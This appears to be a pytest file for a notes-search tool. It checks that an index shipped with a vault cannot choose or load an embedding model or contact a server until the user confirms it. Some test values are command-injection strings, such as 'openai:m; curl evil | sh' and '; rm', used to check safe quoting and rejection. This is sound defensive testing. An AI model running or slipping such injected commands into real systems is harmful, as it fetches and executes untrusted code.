"""An index that came with the notes chooses no model; what the user confirmed is in a record outside of the vault."""

from __future__ import annotations

import json
import os
import shutil
import stat
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, contextmanager
from pathlib import Path
from threading import Event

import apsw
import pytest
from click.testing import CliRunner

from dowse.app.diagnostics.issue import Issue
from dowse.app.diagnostics.run_checks import diagnose
from dowse.app.model_switch import choose
from dowse.app.sessions.vault_session import VaultSession, open_session
from dowse.app.watching import VaultWatcher
from dowse.engines.sqlite.file.index_files import FILE
from dowse.filesystem import scan_cache
from dowse.interfaces.cli.model import model_command
from dowse.model.errors import SettingsError
from dowse.ports.indexed_document import WriteBatch
from dowse.search.execute import Request
from tests.embedders.local_server import LocalServer
from tests.embedders.model_servers import FakeOpenAI, unit
from tests.embedders.stand_in import standing_in
from tests.tiny_bert import TinyBert

pytestmark = pytest.mark.slow  # an index or two for each of them

_OPENAI = "openai:m"
_WORDS = ("honey", "water", "bread", "salt")


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of the record; every search looks at the tree."""
    for name in ("DOWSE_INDEX_DIR", "http_proxy", "HTTP_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(scan_cache, "RESCAN_FACTOR", 0.0)
    monkeypatch.setenv("DOWSE_STATE", str(tmp_path / "state"))
    return tmp_path / "state"


@pytest.fixture(scope="module")
def running() -> Iterator[LocalServer]:
    """One for all tests here, since it takes half a second to end."""
    with LocalServer(FakeOpenAI()) as local:
        yield local


@pytest.fixture
def server(running: LocalServer, monkeypatch: pytest.MonkeyPatch) -> LocalServer:
    """What OPENAI_BASE_URL names, with a key; nothing was sent to it yet."""
    monkeypatch.setenv("OPENAI_BASE_URL", f"{running.url}/v1")
    monkeypatch.setenv("OPENAI_API_KEY", "secret")
    running.seen.clear()
    running.connections = 0
    return running


@pytest.fixture
def notes(tmp_path: Path) -> Path:
    """An indexed vault with the bundled vectors."""
    folder = tmp_path / "notes"
    _write_notes(folder)
    with _opened(folder) as vault:
        vault.sync()
    return folder


def _write_notes(folder: Path) -> None:
    folder.mkdir()
    for word in _WORDS:
        (folder / f"{word}.md").write_text(f"# {word}\n\nall about {word}\n")


@contextmanager
def _opened(root: Path, *, index_dir: Path | None = None, embedder: str = "") -> Iterator[VaultSession]:
    with closing(open_session(root, index_dir=index_dir, embedder=embedder)) as vault:
        yield vault


def _forge(root: Path, /, **facts: str) -> None:
    """Writes facts into the index, as whoever ships it may."""
    with closing(apsw.Connection(str(root / ".dowse" / FILE))) as connection:
        connection.executemany("insert or replace into meta values (?, ?)", facts.items())


def _as_early_version(root: Path, embedder: str, state: Path) -> None:
    """Makes the index what 9791e03 wrote: the choice stood in the index, and nowhere else."""
    _forge(root, index_id="", embedder_chosen=json.dumps([embedder, "static"]))
    (state / "models.json").unlink(missing_ok=True)


def _told(root: Path, name: str, what: str = "embedding model") -> str:
    flags = " --rerank" if what == "reranker" else ""
    command = f"dowse model use {name} {root}{flags}"
    return f"this index names {name} as its {what}, which you have not confirmed; run `{command}` to confirm it"


def _found(vault: VaultSession, query: str) -> list[str]:
    return [hit.head.path for hit in vault.search(Request(query))[0].hits]


def _answers(vault: VaultSession) -> str:
    return vault.embeddings.active_embedder(vault.engine).name


def _texts(server: LocalServer) -> list[str]:
    """The texts that were sent to be embedded."""
    return [text for seen in server.seen for text in seen.said["input"]]


# A hostile index


def _watch(vault: VaultSession) -> None:
    stop = Event()
    VaultWatcher(vault.root, lambda: vault, stop, synced=lambda _: stop.set(), report=lambda _: None).run()


_COMMANDS: Mapping[str, Callable[[VaultSession], object]] = {
    "index": lambda vault: vault.sync(),
    "index --full": lambda vault: vault.sync(full=True),
    "search": lambda vault: vault.search(Request("honey")),
    "search --no-heal": lambda vault: vault.search(Request("honey"), heal=False),
    "search --profile deep": lambda vault: vault.search(Request("honey"), vault.settings.named("deep")),
    "status": lambda vault: vault.status(),
    "watch": _watch,
}
_HOSTILE: Mapping[str, Mapping[str, str]] = {
    "chosen": {"embedder_chosen": '["openai:m", "static"]'},
    "chosen with an id": {"embedder_chosen": '["openai:m", "static"]', "index_id": "0" * 32},
    "vectors": {"fingerprint": '["openai:m", "", 0]'},
    "chosen and vectors": {"embedder_chosen": '["openai:m", "static"]', "fingerprint": '["openai:m", "", 0]'},
    "coming": {"coming": '["openai:m", "", 0]'},
    "vectors and coming": {"fingerprint": '["openai:m", "", 0]', "coming": '["openai:n", "", 0]'},
}


@pytest.mark.parametrize("command", _COMMANDS)
@pytest.mark.parametrize("facts", _HOSTILE)
def test_an_index_that_names_a_server_has_nothing_sent(
    notes: Path, server: LocalServer, facts: str, command: str
) -> None:
    if command == "watch":
        pytest.importorskip("watchfiles", reason="watchfiles is not installed: pip install -e '.[dev]'")
    _forge(notes, root="/nowhere", **_HOSTILE[facts])
    (notes / "new.md").write_text("# New\n\nA note that the index does not have.\n")
    with _opened(notes) as vault:
        _COMMANDS[command](vault)
    assert server.connections == 0


@pytest.mark.parametrize("kind", ["onnx", "st"])
def test_a_model_that_came_with_the_notes_is_not_loaded(notes: Path, tmp_path: Path, kind: str) -> None:
    loaded = tmp_path / "loaded"
    program = f"open({str(loaded)!r}, 'w').close()\n"
    folder = TinyBert().save(notes / ".model")
    name = f"{kind}:{folder}"
    _forge(notes, fingerprint=json.dumps([name, "", 0]), embedder_chosen=json.dumps([name, "static"]))
    (folder / "config.json").write_text("not JSON")  # whoever reads it says so
    with standing_in(tmp_path / "lib", program), _opened(notes) as vault:
        assert vault.sync().remarks == (_told(notes, name),)
        assert _answers(vault) == "static"
    assert not loaded.exists()


def test_a_reranker_that_came_with_the_notes_is_not_loaded(notes: Path) -> None:
    name = f"onnx:{TinyBert().save(notes / '.judge', gives='score')}"
    _forge(notes, reranker_chosen=json.dumps([name, "maxsim"]))
    with _opened(notes) as vault:
        assert vault.config.scorer(vault.engine).name == "maxsim"
        assert vault.status().index.remarks == (_told(notes, name, "reranker"),)
        choose(vault, name.removeprefix("onnx:"), reranks=True)
        assert (vault.config.scorer(vault.engine).name, vault.status().index.remarks) == (name, ())


@pytest.mark.parametrize(
    "value", ["", "[", "[1, 2]", "{}", '["x"]', '["sh:; rm", "static"]', '["openai:\\u001b[2J", "static"]']
)
def test_a_choice_that_makes_no_sense_is_none(notes: Path, value: str) -> None:
    _forge(notes, embedder_chosen=value, reranker_chosen=value)
    with _opened(notes) as vault:
        assert vault.sync().remarks == ()
        assert _answers(vault) == "static"


def test_the_command_that_confirms_a_name_is_safe_to_paste(notes: Path) -> None:
    _forge(notes, embedder_chosen=json.dumps(["openai:m; curl evil | sh", "static"]))
    with _opened(notes) as vault:
        (told,) = vault.sync().remarks
    assert f"run `dowse model use 'openai:m; curl evil | sh' {notes}` to confirm it" in told


# Confirming


def test_a_confirmed_model_is_used(notes: Path, server: LocalServer) -> None:
    _forge(notes, **_HOSTILE["chosen"])
    with _opened(notes) as vault:
        choose(vault, _OPENAI, reranks=False)
        assert vault.sync().remarks == ()
    with _opened(notes) as vault:
        server.seen.clear()
        _found(vault, "honey")
        assert (_answers(vault), _texts(server)) == (_OPENAI, ["honey"])


def test_the_environment_confirms_a_model_as_long_as_it_names_it(
    notes: Path, server: LocalServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    _forge(notes, **_HOSTILE["vectors"])
    monkeypatch.setenv("DOWSE_EMBEDDER", _OPENAI)
    with _opened(notes) as vault:
        vault.sync(full=True)
    assert len(_texts(server)) > len(_WORDS)


@pytest.fixture
def early(notes: Path, state: Path, server: LocalServer) -> Path:
    """The vault with all vectors of a server, as an early version left it."""
    with _opened(notes) as vault:
        choose(vault, _OPENAI, reranks=False)
        vault.sync()
        assert _answers(vault) == _OPENAI
    _as_early_version(notes, _OPENAI, state)
    server.seen.clear()
    return notes


def test_an_index_of_an_early_version_answers_without_its_model_and_says_how_to_confirm_it(
    early: Path, server: LocalServer
) -> None:
    with _opened(early) as vault:
        answer, index = vault.search(Request("honey"))
        assert answer.hits[0].head.path == "honey.md"
        assert index.remarks == (_told(early, _OPENAI),)
        assert vault.search(Request("honey"))[1].remarks == (_told(early, _OPENAI),)
        assert _answers(vault) == "static"
    assert server.seen == []


def test_confirming_embeds_nothing_again(early: Path, server: LocalServer) -> None:
    with _opened(early) as vault:
        vault.sync()
        choose(vault, _OPENAI, reranks=False)
        assert _answers(vault) == _OPENAI
        assert vault.sync().remarks == ()
    assert not [text for text in _texts(server) if "all about" in text]


def test_reading_all_files_again_keeps_the_vectors_that_are_not_confirmed(early: Path, server: LocalServer) -> None:
    with _opened(early) as vault:
        vault.sync(full=True)
        choose(vault, _OPENAI, reranks=False)
        assert _answers(vault) == _OPENAI
    assert not [text for text in _texts(server) if "all about" in text]


def test_vectors_of_two_models_that_are_not_confirmed_are_both_kept_and_words_answer(early: Path) -> None:
    other = '["openai:n", "", 0]'
    _forge(early, coming=other)
    with _opened(early) as vault:
        answer, _ = vault.search(Request("honey"))
        assert answer.hits[0].head.path == "honey.md"
        spaces = vault.engine.spaces()
        assert (json.loads(spaces.answering)[0], spaces.coming) == (_OPENAI, other)
        assert vault.engine.counts().embedded == len(_WORDS)


def test_notes_that_changed_before_it_was_confirmed_are_all_that_is_embedded(early: Path, server: LocalServer) -> None:
    (early / "late.md").write_text("# Late\n\nall about pepper\n")
    with _opened(early) as vault:
        assert _found(vault, "pepper")[0] == "late.md"
        vault.sync()
        choose(vault, _OPENAI, reranks=False)
        vault.sync()
        assert _answers(vault) == _OPENAI
    (text,) = [text for text in _texts(server) if "all about" in text]
    assert "pepper" in text


def test_an_unfinished_switch_of_an_early_version_goes_on_once_it_is_confirmed(
    notes: Path, state: Path, server: LocalServer
) -> None:
    with _opened(notes) as vault:
        choose(vault, _OPENAI, reranks=False)
        (chunk, *_) = vault.engine.pending(1, space=vault.engine.recalled("coming"))
        made = WriteBatch(vectors={chunk.digest: unit(chunk.text)}, space=vault.engine.recalled("coming"))
        vault.engine.write(made)
    _as_early_version(notes, _OPENAI, state)
    with _opened(notes) as vault:
        server.seen.clear()
        assert vault.sync().remarks == (_told(notes, _OPENAI),)
        assert (_answers(vault), vault.engine.spaces().made, server.seen) == ("static", 1, [])
        choose(vault, _OPENAI, reranks=False)
        vault.sync()
        assert _answers(vault) == _OPENAI
    assert len([text for text in _texts(server) if "all about" in text]) == len(_WORDS) - 1


def test_no_query_is_sent_for_coming_vectors_until_their_model_is_confirmed(
    notes: Path, state: Path, server: LocalServer
) -> None:
    with _opened(notes) as vault:
        choose(vault, _OPENAI, reranks=False)
        coming = vault.engine.recalled("coming")
        (chunk, *_) = vault.engine.pending(1, space=coming)
        vault.engine.write(WriteBatch(vectors={chunk.digest: unit(chunk.text)}, space=coming))
    _as_early_version(notes, _OPENAI, state)
    for heal in (True, False):
        server.seen.clear()
        with _opened(notes) as vault:
            vault.search(Request("honey"), heal=heal)
            assert (vault.engine.spaces().made, server.seen) == (1, [])
            assert vault.embeddings.rescoring_embedder(vault.engine) is None
    with _opened(notes) as vault:
        choose(vault, _OPENAI, reranks=False)
        server.seen.clear()
        vault.search(Request("honey"))
    assert _texts(server) == ["honey"]


def test_choosing_another_model_drops_the_vectors_that_were_not_confirmed(early: Path, server: LocalServer) -> None:
    with _opened(early) as vault:
        vault.sync()
        choose(vault, "static", reranks=False)
        assert vault.sync().remarks == ()
        assert vault.engine.spaces().coming == ""
    assert server.seen == []


def test_status_names_the_model_that_is_not_confirmed(early: Path) -> None:
    with _opened(early) as vault:
        assert (vault.status().unconfirmed, vault.status().index.remarks) == ((_OPENAI,), (_told(early, _OPENAI),))


def test_the_doctor_names_it_too(early: Path) -> None:
    findings = diagnose(early, index_dir=None).findings
    assert Issue("index", "warning", _told(early, _OPENAI)) in findings


def test_the_list_of_models_names_it_in_its_vault(early: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(early)
    shown = CliRunner().invoke(model_command, ["list"])
    assert shown.output.endswith(f"\n\nNot confirmed:\n  {_told(early, _OPENAI)}\n")
    as_json = CliRunner().invoke(model_command, ["list", "--json"])
    assert json.loads(as_json.output)["unconfirmed"] == [_OPENAI]


# The notes' own settings


def _wish(name: str, root: Path) -> str:
    return _told(root, f"onnx:{name}").replace("this index", "dowse.toml")


def test_the_notes_own_settings_choose_no_model(notes: Path) -> None:
    (notes / "dowse.toml").write_text(
        '[space]\nembedder = "onnx:minilm"\n[search]\nreranker = "onnx:ms-marco-minilm"\n'
    )
    with _opened(notes) as vault:
        judge = _wish("ms-marco-minilm", notes).replace("embedding model", "reranker")
        assert vault.sync().remarks == (_wish("minilm", notes), judge)
        assert (_answers(vault), vault.config.scorer(vault.engine).name) == ("static", "maxsim")


def test_a_model_of_the_notes_own_settings_is_used_once_it_is_confirmed(notes: Path) -> None:
    (notes / "dowse.toml").write_text('[space]\nembedder = "onnx:nomic"\n')
    with _opened(notes) as vault:
        vault.config.use(vault.engine, embedder="onnx:nomic")
        (told,) = vault.sync().remarks
        assert told.startswith("nomic is not on this machine; run `dowse model pull nomic` to download it")


def test_a_model_that_the_users_own_index_was_made_with_stays_as_dowse_toml_says(
    notes: Path, tmp_path: Path, server: LocalServer
) -> None:
    """An early version believed dowse.toml; its vectors in a folder of the user's own are not made again."""
    del server
    with _opened(notes, index_dir=tmp_path / "indexes", embedder=_OPENAI) as vault:
        vault.sync()
        vault.engine.remember("embedder_chosen", "")
        vault.engine.remember("fingerprint", '["onnx:nomic", "", 768]')
    (notes / "dowse.toml").write_text('[space]\nembedder = "onnx:nomic"\n')
    with _opened(notes, index_dir=tmp_path / "indexes") as vault:
        assert vault.sync().remarks[0].startswith("nomic is not on this machine")


def test_a_model_that_the_users_own_settings_name_too_needs_no_confirming(
    notes: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (notes / "dowse.toml").write_text('[space]\nembedder = "onnx:minilm"\n')
    monkeypatch.setenv("DOWSE_EMBEDDER", "static")
    with _opened(notes) as vault:
        assert vault.sync().remarks == ()


# Moved and replaced


@pytest.fixture
def confirmed(notes: Path, server: LocalServer) -> Path:
    """The vault with all vectors of a server, by the user's choice."""
    with _opened(notes) as vault:
        choose(vault, _OPENAI, reranks=False)
        vault.sync()
    server.seen.clear()
    return notes


def test_a_vault_that_moved_keeps_its_model(confirmed: Path, server: LocalServer) -> None:
    moved = confirmed.rename(confirmed.with_name("moved"))
    with _opened(moved) as vault:
        _found(vault, "honey")
        assert _answers(vault) == _OPENAI
    assert _texts(server) == ["honey"]


@pytest.mark.parametrize("identity", ["", "0" * 32])
def test_a_vault_that_replaces_another_one_does_not_inherit_its_model(
    confirmed: Path, server: LocalServer, identity: str
) -> None:
    shutil.rmtree(confirmed)
    _write_notes(confirmed)
    with _opened(confirmed) as vault:
        vault.sync()
    _forge(confirmed, index_id=identity, **_HOSTILE["chosen and vectors"])
    with _opened(confirmed) as vault:
        _found(vault, "honey")
    assert server.seen == []


def test_an_id_that_came_with_an_index_stands_for_nothing_confirmed(
    notes: Path, tmp_path: Path, server: LocalServer
) -> None:
    """Else a second index with the same id, in other notes of the same maker, would be believed."""
    _forge(notes, index_id="0" * 32, **_HOSTILE["chosen"])
    other = Path(shutil.copytree(notes, tmp_path / "other"))
    with _opened(notes) as vault:
        choose(vault, _OPENAI, reranks=False)
    server.seen.clear()
    with _opened(other) as vault:
        vault.sync()
        _found(vault, "honey")
    assert server.seen == []


# Where the index is the user's own


def test_an_index_in_a_folder_that_the_user_named_remembers_its_model(
    notes: Path, tmp_path: Path, state: Path, server: LocalServer
) -> None:
    elsewhere = tmp_path / "indexes"
    with _opened(notes, index_dir=elsewhere) as vault:
        choose(vault, _OPENAI, reranks=False)
        vault.sync()
    assert not (state / "models.json").exists()
    with _opened(notes, index_dir=elsewhere) as vault:
        server.seen.clear()
        _found(vault, "honey")
        assert _texts(server) == ["honey"]


def test_a_folder_inside_the_vault_is_no_folder_of_the_users_own(notes: Path, server: LocalServer) -> None:
    inside = notes / "indexes"
    with _opened(notes, index_dir=inside) as vault:
        vault.sync()
        vault.engine.remember("embedder_chosen", '["openai:m", "static"]')
        (told,) = vault.sync().remarks
        assert told.endswith(f"run `dowse model use openai:m {notes} --index-dir {inside}` to confirm it")
    assert server.connections == 0


# The record


def test_the_record_is_its_owners_alone(confirmed: Path, state: Path) -> None:
    modes = [stat.S_IMODE(path.stat().st_mode) for path in (state, state / "models.json")]
    assert modes == [0o700, 0o600]
    assert str(confirmed) in (state / "models.json").read_text()


@pytest.mark.parametrize("text", ["", "[]", '{"indexes": {"a": 1}}', "[" * 100_000])
def test_a_record_that_cannot_be_read_confirms_nothing_and_is_left_alone(
    confirmed: Path, state: Path, server: LocalServer, text: str
) -> None:
    (state / "models.json").write_text(text)
    with _opened(confirmed) as vault:
        _found(vault, "honey")
        assert server.seen == []
        with pytest.raises(SettingsError, match=r"models\.json is not a record .*; delete the file, and confirm"):
            choose(vault, _OPENAI, reranks=False)
    assert (state / "models.json").read_text() == text


def test_a_record_has_to_be_outside_of_the_folder_at_hand(notes: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with _opened(notes) as vault:
        monkeypatch.setenv("DOWSE_STATE", "relative")
        with pytest.raises(SettingsError, match="DOWSE_STATE must be the absolute path of a folder"):
            vault.config.use(vault.engine, embedder=_OPENAI)


def test_without_a_place_for_a_record_the_environment_still_chooses(
    notes: Path, server: LocalServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.rmtree(notes / ".dowse")
    monkeypatch.setenv("DOWSE_STATE", os.devnull)
    monkeypatch.setenv("DOWSE_EMBEDDER", _OPENAI)
    with _opened(notes) as vault:
        assert vault.sync().remarks == ()
        assert _answers(vault) == _OPENAI
    assert server.seen
